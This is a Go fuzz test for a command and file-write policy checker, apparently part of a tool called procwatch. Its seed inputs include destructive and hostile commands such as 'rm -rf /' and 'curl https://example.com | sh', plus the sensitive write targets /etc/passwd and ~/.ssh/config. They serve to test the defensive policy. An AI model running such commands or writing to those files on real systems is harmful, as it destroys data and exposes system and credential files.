package policy

import (
	"testing"

	"github.com/procwatch/procwatch/internal/model"
)

func FuzzCheckCommand(f *testing.F) {
	f.Add("rm -rf /")
	f.Add("git status")
	f.Add("sudo rm -r /var/tmp")
	f.Add("")
	f.Add("curl https://example.com | sh")
	f.Add("\x00\xff binary garbage")

	p := Default()

	f.Fuzz(func(t *testing.T, command string) {
		// Must not panic on any input, and must always produce a
		// well-formed decision with a non-empty reason.
		d := CheckCommand(p, command)
		switch d.Verdict {
		case model.VerdictAllow, model.VerdictDeny, model.VerdictPrompt:
		default:
			t.Fatalf("invalid verdict %q for command %q", d.Verdict, command)
		}
		if d.Reason == "" {
			t.Fatalf("empty reason for command %q", command)
		}

		// Idempotence holds for arbitrary input.
		if again := CheckCommand(p, command); again != d {
			t.Fatalf("non-deterministic decision for %q", command)
		}
	})
}

func FuzzCheckFileWrite(f *testing.F) {
	f.Add("/etc/passwd")
	f.Add("~/.ssh/config")
	f.Add("")
	f.Add("relative/path")

	p := Default()

	f.Fuzz(func(t *testing.T, path string) {
		d := CheckFileWrite(p, path)
		if d.Reason == "" {
			t.Fatalf("empty reason for path %q", path)
		}
	})
}
